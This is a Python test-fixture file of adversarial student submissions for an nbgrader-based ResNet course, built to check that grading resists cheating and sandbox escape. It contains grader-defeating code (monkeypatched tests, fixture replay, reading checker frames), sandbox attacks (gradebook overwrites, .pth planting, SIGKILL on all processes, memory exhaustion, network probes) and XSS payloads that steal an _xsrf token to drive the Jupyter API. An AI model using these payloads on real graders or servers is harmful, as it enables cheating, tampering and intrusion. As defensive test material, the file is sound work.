"""Broken, adversarial and renamed submissions: what a class really hands in.

Each entry is one student of the temporary course in ``test_nbgrader_roundtrip.py``,
graded by the real ``nbgrader autograde`` together with everybody else. A student
starts from the model submission (the release answered with the reference
solutions) and changes it for the exercises the entry targets: every graded
exercise of the course (``EVERY``), the course's first one (``FIRST``; the cheapest
notebook to grade), or named exercises (skipped when the course has none of them).
``score`` is what the targeted exercise's graded cell must get ("full" or "zero");
every other graded cell of the submitted notebooks must keep full marks, except with
"notebook-zero" (a notebook that ends its sandbox: all its graded cells get 0). ``evidence``
is text that must appear in the graded cell's output ("graded"), in the answer cell's
output ("answer"), or in what ``tools.grade autograde`` prints ("autograde").
Entries with ``score=None`` are not graded at all: the instructor gets an instruction.
"""

from __future__ import annotations

from dataclasses import dataclass

from tools.notebooks import nbgrader_meta, solution_source

from .mutants import FINAL, MUTANTS

EVERY, FIRST = "every", "first"


@dataclass(frozen=True)
class Adversary:
    id: str                       # also the student id
    what: str
    targets: object               # EVERY, FIRST or a tuple of exercise names
    score: str | None             # "full", "zero", "notebook-zero", or None (not graded; see evidence)
    evidence: tuple = ()          # (where, text) or (where, text, exercise) tuples; default: the first target
    answer: object = None         # (exercise, reference answer code) -> the submitted answer cell
    notebook: object = None       # (notebook node, exercise) -> None: further edits
    file_name: object = None      # (notebook file name) -> the name the student submits it under
    raw: str | None = None        # the bytes of the submitted file instead of a notebook


# ---------------------------------------------------------------- answers
def _stub(body: str):
    return lambda ex, ref: f"def {ex}(*args, **kwargs):\n    {body}\n"


def _redefines_tests(ex, ref):
    return (f"def {ex}(*args, **kwargs):\n    return None\n\n\n"
            "import public_tests\nimport test_utils\n\n\n"
            "def _always_pass(*args, **kwargs):\n    print('[PASS] all checks passed')\n\n\n"
            f"{ex}_test = _always_pass\n"
            f"public_tests.{ex}_test = _always_pass\n"
            f"public_tests.{ex}_hidden_test = _always_pass\n"
            "test_utils.hidden_test = _always_pass\n"
            "test_utils.expect = _always_pass\n")


def _mutant(exercise: str, mutant_id: str) -> str:
    """The answer cell of a catalogue mutant (resnet_course/catalogue/mutants.py)."""
    from tools.notebooks import find_exercise

    entry = next(m for m in MUTANTS if (m.exercise, m.id) == (exercise, mutant_id))
    _, nb, index = find_exercise(exercise)
    code = nb.cells[index].source
    for old, new in entry.edits:
        code = code.replace(old, new)
    return solution_source(code)


def _patches_numpy(ex, ref):
    # BatchNorm hard-wired to training mode fails only the value comparisons, which numpy.max
    # returning 0 would make pass: |got - expected| would always look like 0.
    return (_mutant(ex, "bn_training_true") + "\n\n\nimport numpy\n"
            "numpy.allclose = lambda *args, **kwargs: True\nnumpy.max = lambda *args, **kwargs: 0.0\n")


def _replays_fixtures(ex, ref):
    # Correct layers, except that the final "ReLU" replays the stored expected outputs for the
    # visible test's inputs (read from the fixtures file) and does nothing for any other input.
    return ("import test_utils\n\n"
            "STORED = dict(np.load(test_utils.FIXTURES))\n\n\n"
            "class Replay(layers.ReLU):\n"
            "    def call(self, inputs, training=None):\n"
            "        for key, value in STORED.items():\n"
            f"            if key.startswith('{ex}__') and key.endswith('__inference') and tuple(inputs.shape) == value.shape:\n"
            "                return keras.ops.convert_to_tensor(STORED[key.replace('inference', 'training')] if training else value)\n"
            "        return inputs\n\n\n"
            + ref.replace(FINAL, '    X = layers.Add()([X, X_shortcut])\n    X = Replay()(X)\n'))


def _visible_configs_only(ex, ref):
    # Right for the three (f, filters, s) of the visible test, no final ReLU for anything else.
    return ("VISIBLE = [(3, [2, 4, 5], 2), (2, [3, 2, 6], 1), (3, [2, 3, 5], 3)]\n\n\n"
            + ref.replace(FINAL, '    X = layers.Add()([X, X_shortcut])\n'
                                 '    if (f, list(filters), s) in VISIBLE:\n'
                                 '        X = layers.Activation("relu")(X)\n'))


def _loops_forever(ex, ref):
    return ref + "\n\n# a debugging loop left behind\nwhile True:\n    pass\n"


def _noisy(ex, ref):
    return (ref + "\n\nimport sys\nimport warnings\n\nwarnings.simplefilter('always')\n"
            f"_reference = {ex}\n\n\n"
            f"def {ex}(*args, **kwargs):\n"
            "    print('debug: building')\n"
            "    print('debug: this goes to stderr', file=sys.stderr)\n"
            "    warnings.warn('a warning raised by the learner')\n"
            "    for i in range(3000):\n"
            "        print('a very long output, line', i)\n"
            "    return _reference(*args, **kwargs)\n")


# ---------------------------------------------------------------- notebook edits
def _graded_cell(nb, ex):
    return next(c for c in nb.cells if nbgrader_meta(c).get("grade_id") == f"{ex}_tests")


def _delete_graded_cell(nb, ex):
    nb.cells.remove(_graded_cell(nb, ex))


def _edit_locked_cell(nb, ex):
    _graded_cell(nb, ex).source = "print('[PASS] all tests passed')"


def _duplicate_cells(nb, ex):
    import copy

    def duplicate(cell):
        twin = copy.deepcopy(cell)
        twin.id = f"{cell.id}-copy"[-64:]              # Jupyter gives a pasted cell a new id
        return twin

    answer = next(c for c in nb.cells if nbgrader_meta(c).get("grade_id") == ex)
    broken = duplicate(answer)
    broken.source = f"def {ex}(*args, **kwargs):\n    return None\n"
    nb.cells.insert(nb.cells.index(answer), broken)          # an earlier, broken copy of the answer cell
    graded = _graded_cell(nb, ex)
    nb.cells.insert(nb.cells.index(graded) + 1, duplicate(graded))


ADVERSARIES = [
    # ---- broken solutions
    Adversary("raises", "the function raises an exception", EVERY, "zero",
              (("graded", "raised ValueError"),), answer=_stub("raise ValueError('a bug in my code')")),
    # raises and redefines_tests meet every exercise through nbgrader; returns_none and returns_numpy one
    # each (tests/test_graded_cells.py gives every exercise's tests these answers in process, in seconds).
    Adversary("returns_none", "the function returns None", FIRST, "zero",
              (("graded", "returned None"),), answer=_stub("return None")),
    Adversary("returns_numpy", "the function returns a NumPy array instead of a Keras tensor or model",
              ("identity_block",), "zero", (("graded", "numpy.ndarray"),),
              answer=_stub("return np.zeros((1, 4, 4, 3), dtype='float32')")),
    # ---- cheating
    Adversary("redefines_tests", "a wrong answer, and the answer cell redefines the test functions and "
              "monkeypatches public_tests and test_utils so that they always pass", EVERY, "zero",
              (("graded", "returned None"),), answer=_redefines_tests),   # the judge never sees the patches
    Adversary("patches_numpy", "BatchNorm hard-wired to training mode, and numpy.allclose and numpy.max replaced so "
              "that every comparison passes", ("identity_block",), "zero",
              (("graded", "don't pass training=True"),), answer=_patches_numpy),   # the judge's numpy is its own
    Adversary("replays_fixtures", "reads the fixtures file and replays the visible test's expected outputs; "
              "no final ReLU for any other input", ("identity_block",), "zero",
              (("graded", "could not be loaded without running code written in the notebook"),),
              answer=_replays_fixtures),        # its Replay layer is a class written in the notebook: refused
    Adversary("visible_configs_only", "right only for the visible test's three configurations (hard-coded)",
              ("convolutional_block",), "zero",
              (("graded", "[PASS] convolutional_block: all checks passed"), ("graded", "fresh configuration")),
              answer=_visible_configs_only),
    Adversary("keras_applications", "returns keras.applications.ResNet50 instead of building the network",
              ("ResNet50",), "zero", (("graded", "made by keras.applications"),),
              answer=lambda ex, ref: ("def ResNet50(input_shape=(64, 64, 3), classes=6):\n"
                                      "    return keras.applications.ResNet50(weights=None, input_shape=input_shape, "
                                      "classes=classes)\n")),
    # ---- the notebook itself
    Adversary("loops_forever", "a correct function, then an infinite loop in the answer cell: the cell times out, "
              "the rest of the notebook still runs and is graded", FIRST, "full",
              (("answer", "CellTimeoutError"),), answer=_loops_forever),
    Adversary("deletes_graded_cell", "the graded test cell deleted: nbgrader puts it back and grades it",
              FIRST, "full", notebook=_delete_graded_cell),
    Adversary("edits_locked_cell", "a wrong answer, and the locked test cell replaced by a print: the checksum "
              "differs, so the original test runs", FIRST, "zero", (("graded", "returned None"),),
              answer=_stub("return None"), notebook=_edit_locked_cell),
    Adversary("duplicates_cells", "a broken copy of the answer cell above the right one, and the graded cell "
              "twice: graded once, on the definition that runs last", FIRST, "full", notebook=_duplicate_cells),
    Adversary("noisy", "prints, writes to stderr, raises a warning and prints 6000 lines inside the graded "
              "function: no points lost, output truncated", FIRST, "full",
              (("graded", "... Output truncated ..."),), answer=_noisy),
    Adversary("renamed", "the notebook submitted under another name (Jupyter's '-Copy1')", FIRST, None,
              (("autograde", "-Copy1.ipynb: not a notebook of"), ("autograde", "mv ")),
              file_name=lambda name: name.replace(".ipynb", "-Copy1.ipynb")),
    Adversary("corrupt", "a file that is not a notebook (truncated JSON)", FIRST, None,
              (("autograde", "not a readable notebook"),), raw='{"cells": [{"cell_type": "code", "sou'),
]


# =============================================================================================================
# Sandbox attacks (issue 15): each class of attack that worked against the in-kernel grader. The student's
# notebook now runs in a sandbox (resnet_course/grading/sandbox.py) and a judge outside it runs the checks
# (resnet_course/grading/judge.py); every entry here must score 0 for its target, and the round trip checks
# that nothing outside the sandbox changed (course files, other students' rows and submissions, processes,
# network). Each attack's function ends wrong (returns None) when the attack fails, so a score of 0 is the
# attack failing, not the function being right by accident.
SANDBOX_PROBE_PORT_ENV = "RESNET_COURSE_PROBE_PORT"   # a port on the host's loopback the round trip listens on


def _attack(ex, body: str, at_cell: str = "") -> str:
    """An answer cell: ``at_cell`` runs when the notebook runs, ``body`` when the grader calls the function."""
    indented = "\n".join("    " + line for line in body.strip().splitlines())
    return f"{at_cell.strip()}\n\n\ndef {ex}(*args, **kwargs):\n{indented}\n    return None\n"


def _reads_solutions(ex, ref):
    # Walk up from the working folder and from public_tests.__file__ to source/<assignment>/*.ipynb and exec the
    # reference solution of this exercise.
    return _attack(ex, f"""
import glob, json, os, public_tests
starts = [os.getcwd(), os.path.dirname(public_tests.__file__), '/', '/work', '/root', '/tmp']
for start in starts:
    folder = start
    for _ in range(6):
        for path in glob.glob(os.path.join(folder, 'source', '*', '*.ipynb')):
            for cell in json.load(open(path))['cells']:
                if cell.get('metadata', {{}}).get('nbgrader', {{}}).get('grade_id') == '{ex}':
                    namespace = {{}}
                    exec(''.join(cell['source']).replace('### BEGIN SOLUTION', '').replace('### END SOLUTION', ''),
                         globals(), namespace)
                    return namespace['{ex}'](*args, **kwargs)
        folder = os.path.dirname(folder)
""")


def _reads_frames(ex, ref):
    # Return the expected value the checker computed before calling us, found in its frames; and sys.settrace to
    # rewrite the checker's locals.
    return _attack(ex, """
import sys
frame = sys._getframe(1)
while frame is not None:
    for name in ('expected', 'expected_plain', 'expected_residual', 'expected_inf', 'want', 'reference'):
        if name in frame.f_locals:
            return frame.f_locals[name]
    frame = frame.f_back
sys.settrace(lambda *a: None)
""")


def _disarms_checks(ex, ref):
    # Replace importlib.reload, builtins.__import__, sys.modules entries and the tamper guard's baseline.
    return _attack(ex, "", at_cell="""
import builtins, importlib, sys, types
import numpy
from resnet_course import guard
guard._LIBRARY_SNAPSHOT.clear()
numpy.allclose = lambda *a, **k: True
importlib.reload = lambda module: module
_import = builtins.__import__
fake = types.ModuleType('public_tests')
fake.__getattr__ = lambda name: (lambda *a, **k: print('[PASS] all checks passed'))
sys.modules['public_tests'] = fake
builtins.__import__ = lambda name, *a, **k: fake if name == 'public_tests' else _import(name, *a, **k)
""")


def _writes_where_grading_reads(ex, ref):
    # The gradebook, the course's public_tests.py, a .pth in site-packages, other students' folders.
    return _attack(ex, "", at_cell="""
import glob, os, site, sqlite3, sys, public_tests
def _try(f):
    try:
        f()
    except Exception as exc:
        print('refused:', type(exc).__name__)
folders = [os.getcwd(), os.path.dirname(public_tests.__file__), '/work', '/tmp', '/']
for start in folders:
    folder = start
    for _ in range(6):
        for db in glob.glob(os.path.join(folder, 'gradebook.db')):
            _try(lambda: sqlite3.connect(db).execute('update grade set auto_score = 100'))
        for sub in glob.glob(os.path.join(folder, 'submitted', '*', '*', '*.ipynb')) + \\
                glob.glob(os.path.join(folder, 'autograded', '*', '*', '*.ipynb')):
            _try(lambda: open(sub, 'w').write('{}'))
        folder = os.path.dirname(folder)
_try(lambda: open(public_tests.__file__, 'a').write('\\ndef _x(): pass\\n'))
for packages in site.getsitepackages() + [os.path.dirname(os.__file__)]:
    _try(lambda: open(os.path.join(packages, 'zz_attack.pth'), 'w').write('import os\\n'))
""")


def _kills_its_parent(ex, ref):
    # Kill the grader while the notebook runs: the parent, pid 1, every process it can signal, then itself.
    return _attack(ex, "", at_cell="""
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except Exception:
    pass
os.kill(os.getpid(), signal.SIGKILL)
""")


def _lingers(ex, ref):
    # A child that outlives the notebook and keeps writing, detached from the session.
    return _attack(ex, "", at_cell="""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            try:
                open('/tmp/still_here', 'a').write('x')
            except Exception:
                pass
            time.sleep(0.5)
    os._exit(0)
""")


def _floods_output(ex, ref):
    # While the notebook runs: one 50 MB line, then memory held until the limit. It ignores the cell's time limit
    # (SIGALRM), as a hostile cell can: only the memory limit stops it, whatever the machine's speed.
    return _attack(ex, "", at_cell="""
print('x' * 50_000_000)
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
hold = []
while True:
    hold.append(bytearray(100_000_000))
""")


def _reaches_network(ex, ref):
    # The host's loopback (where the round trip listens) and the outside world.
    return _attack(ex, "", at_cell=f"""
import os, socket
for address in (('127.0.0.1', int(os.environ.get('{SANDBOX_PROBE_PORT_ENV}', '1'))), ('1.1.1.1', 53)):
    try:
        socket.create_connection(address, timeout=2).sendall(b'reached')
        print('reached', address)
    except Exception as exc:
        print('no network:', type(exc).__name__)
""")


ADVERSARIES += [
    Adversary("reads_solutions", "walks up to source/<assignment>/*.ipynb (from the working folder and from "
              "public_tests.__file__) and runs the reference solution", FIRST, "zero", (("graded", "returned None"),),
              answer=_reads_solutions),
    Adversary("reads_frames", "returns the expected value found in the checker's frames (sys._getframe) and sets "
              "sys.settrace", FIRST, "zero", (("graded", "returned None"),), answer=_reads_frames),
    Adversary("disarms_checks", "clears the tamper guard's baseline, patches numpy, importlib.reload, "
              "builtins.__import__ and sys.modules['public_tests']", FIRST, "zero", (("graded", "returned None"),),
              answer=_disarms_checks),
    Adversary("writes_where_grading_reads", "writes gradebook.db, public_tests.py, a .pth in site-packages and "
              "other students' submitted/ and autograded/ notebooks", FIRST, "zero", (("graded", "returned None"),),
              answer=_writes_where_grading_reads),
    # These two end their sandbox while the notebook runs: every graded cell of the notebook scores 0 ("did not
    # run"), and every other student is graded as usual.
    Adversary("kills_its_parent", "kills its parent, pid 1, every process it can signal, then itself",
              FIRST, "notebook-zero", (("graded", "run ended before this exercise could be checked"),),
              answer=_kills_its_parent),
    Adversary("lingers", "forks a detached process that keeps writing after the notebook ends", FIRST, "zero",
              (("graded", "returned None"),), answer=_lingers),
    Adversary("floods_output", "prints one 50 MB line, ignores the cell's time limit, then holds memory until the "
              "limit", FIRST, "notebook-zero",
              (("graded", "run ended before this exercise could be checked"),), answer=_floods_output),
    Adversary("reaches_network", "connects to the host's loopback and to the internet", FIRST, "zero",
              (("graded", "returned None"),), answer=_reaches_network),
]


# =============================================================================================================
# Hostile pages (issue 23): a submission whose markdown, raw cell, attachment and metadata carry HTML and
# script for the pages that show it (formgrader's submission view, the feedback HTML), on the Jupyter
# server's origin. If any of it ran, it would call alert(), set window.__pwned, write pwned.txt into the
# course folder through the server's API, ask for a terminal and request the loopback listener of
# tests/test_hostile_pages.py (HOSTILE_PROBE_PORT is replaced by its port). Graded as usual: full marks.
# Not in ADVERSARIES: the whole-course round trip stays as it is; tests/test_hostile_pages.py grades it.
HOSTILE_MARKER = "HOSTILE-MARKDOWN-23"  # text of every hostile cell: it must still show, as text
HOSTILE_PROBE_PORT = "__HOSTILE_PROBE_PORT__"
HOSTILE_JS = (
    "window.__pwned=1;var t=(document.cookie.match(/_xsrf=([^;]+)/)||[0,''])[1];"
    "fetch('/api/contents/pwned.txt',{method:'PUT',headers:{'X-XSRFToken':t,'Content-Type':'application/json'},"
    "body:JSON.stringify({type:'file',format:'text',content:'pwned'})});"
    "fetch('/api/terminals',{method:'POST',headers:{'X-XSRFToken':t}});"
    f"fetch('http://127.0.0.1:{HOSTILE_PROBE_PORT}/pwned',{{mode:'no-cors'}});alert('pwned')"
)
HOSTILE_MARKDOWN = (
    f"<script>{HOSTILE_JS}</script>",
    f'<img src=x onerror="{HOSTILE_JS}">',
    f'<svg onload="{HOSTILE_JS}"></svg>',
    f"<svg><script>{HOSTILE_JS}</script></svg>",
    f'<iframe srcdoc="<script>parent.eval(&quot;{HOSTILE_JS}&quot;)</script>"></iframe>',
    f'<a href="javascript:{HOSTILE_JS}">click me</a>',
    '<form action="/api/contents/pwned.txt" method="post"><input name="x" value="1"><button>send</button></form>',
    f'<details open ontoggle="{HOSTILE_JS}"><summary>s</summary>d</details>',
    "<style>body { background: url('/api/terminals') } * { display: none }</style>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{HOSTILE_JS}">',
    '<object data="/api/contents"></object><embed src="/api/contents">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{HOSTILE_JS}">',
)
HOSTILE_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HOSTILE_JS}"><script>{HOSTILE_JS}</script></svg>'
HOSTILE_TAG = 'x" onmouseover="alert(1)'


def _hostile_markdown(nb, ex):
    """Hostile cells after the answer cell: markdown payloads, a raw HTML cell, an SVG attachment, a tag."""
    from nbformat.v4 import new_markdown_cell, new_raw_cell

    cells = [new_markdown_cell(f"{HOSTILE_MARKER} {n}\n\n{payload}") for n, payload in enumerate(HOSTILE_MARKDOWN)]
    raw = new_raw_cell(f"{HOSTILE_MARKER} raw <script>{HOSTILE_JS}</script>")
    raw.metadata["raw_mimetype"] = "text/html"
    image = new_markdown_cell(f"{HOSTILE_MARKER} svg\n\n![figure](attachment:figure.svg)")
    image.attachments = {"figure.svg": {"image/svg+xml": HOSTILE_SVG}}
    tagged = new_markdown_cell(f"{HOSTILE_MARKER} tag")
    tagged.metadata["tags"] = [HOSTILE_TAG]
    answer = next(c for c in nb.cells if nbgrader_meta(c).get("grade_id") == ex)
    at = nb.cells.index(answer) + 1
    nb.cells[at:at] = [*cells, raw, image, tagged]
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2, "version_minor": 0}
    }


HOSTILE_PAGES = [
    Adversary("markdown_html", "the model answer plus markdown cells, a raw cell, an SVG attachment, a cell tag and "
              "widget state that carry script for formgrader and the feedback page", FIRST, "full",
              notebook=_hostile_markdown),
]
